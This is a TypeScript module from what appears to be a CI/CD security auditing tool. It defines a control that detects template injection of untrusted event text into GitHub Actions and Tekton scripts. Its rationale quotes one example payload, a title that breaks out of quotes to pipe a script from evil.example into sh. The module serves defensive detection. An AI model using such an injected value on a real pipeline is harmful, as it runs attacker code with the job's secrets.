import { rememberedOf } from '@plumbline/core';
import type { WorkflowStep } from '@plumbline/pipeline';
import type { Control, Judgement } from '../control.js';
import { UNUSUAL } from '../fix/fix.js';
import { hasGitHub } from '../github/steps.js';
import type { Subject } from '../subject.js';
import type { GitHubFlow } from '../taint/github/flow.js';
import type { TektonFlow } from '../taint/tekton/flow.js';
import { hasTekton } from '../tekton/specs.js';
import { handOver } from './fix-template-injection.js';
import { gitHubViolation, tektonViolation } from './flows.js';
import { hiddenFlows } from './hidden-flows.js';
import { idleFields } from './idle-fields.js';
import { codeFlows, codeFlowsOfTekton, oncePerStep, wordsOf, wordsOfTekton } from './injection.js';

/** 2.1.1: what is filled into a script is read by its interpreter like the script itself. */
export const noTemplateInjection: Control = {
  id: '2.1.1',
  slug: 'no-template-injection',
  title: 'Untrusted text does not become code',
  level: 1,
  assessment: 'automated',
  rationale:
    'Expressions and variables are filled into a script as text, before a shell reads it. Quotes around them do not help: a title such as `"; curl evil.example | sh; "` ends the quotes. Whoever writes the title of an issue or the name of a branch then runs commands with the token and the secrets of the job.',
  audit:
    'List the expressions in `run` and in inputs that are code (`script` of actions/github-script), and the variables in `script` and behind `sh -c`. None holds text of an event, a branch, a commit, or on Tekton a parameter that callers choose freely. No script gives a variable with such text to `eval`, `sh -c` or another interpreter.',
  remediation:
    'Hand the value over in the environment and use the variable in double quotes: `env: { TITLE: ${{ github.event.issue.title }} }` and `"$TITLE"`; on Tekton `env: [{ name: TITLE, value: $(params.title) }]`. As an argument of a program (`args`) a parameter is data.',
  impact: 'None: the script sees the same value.',
  references: [
    'OWASP CICD-SEC-4',
    'OSPS BR-01.01',
    'Scorecard Dangerous-Workflow',
    'zizmor template-injection',
    'CodeQL code-injection',
    'poutine injection',
  ],
  legs: { G: { judge: judgeGitHub }, T: { judge: judgeTekton } },
};

function judgeGitHub(subject: Subject): Judgement {
  if (!hasGitHub(subject)) return 'not-applicable';
  const all = codeFlows(subject);
  const flows = oncePerStep(
    [...all, ...hiddenFlows(subject)]
      .filter(isNear)
      .filter(({ taint }) => taint.grade !== 'caller'),
  );
  const byStep = Map.groupBy(flows, ({ step }) => step);
  const fixes = rememberedOf((step: WorkflowStep) => handOver(byStep.get(step) ?? []));
  return [
    ...flows.map((flow) => ({
      ...gitHubViolation(subject, flow, wordsOf(flow)),
      fix: () => fixes(flow.step).get(flow) ?? UNUSUAL,
    })),
    ...idleFields(subject),
  ];
}

/** In the job that the value enters by; behind other boundaries it is for 2.1.3. */
function isNear({ taint, job, at }: GitHubFlow): boolean {
  const [entry] = taint.trail;
  if (!taint.crossed || entry === undefined || job === null) return !taint.crossed;
  const { start, end } = job.job.node.span;
  return entry.source.path === at.source.path && start <= entry.span.start && entry.span.end <= end;
}

/** What callers choose belongs here however it arrives, and what is bound in the same file; the rest to 2.1.3. */
function judgeTekton(subject: Subject): Judgement {
  if (!hasTekton(subject)) return 'not-applicable';
  return oncePerStep(codeFlowsOfTekton(subject))
    .filter((flow) => !isInterpreter(flow))
    .map((flow) => tektonViolation(flow, wordsOfTekton(flow)));
}

/** A step whose script is a parameter and nothing else is there to run what its caller writes. */
function isInterpreter({ taint, site, sink }: TektonFlow): boolean {
  const { script, args } = site.step;
  const text = sink === 'script' ? script?.value : args.at(-1)?.value;
  return (
    taint.grade === 'caller' &&
    sink !== 'reread' &&
    text !== undefined &&
    /^(?:\s*#![^\n]*)?\s*(?:set -\w+\s+)?\$\([^()\s]+\)\s*$/.test(text)
  );
}
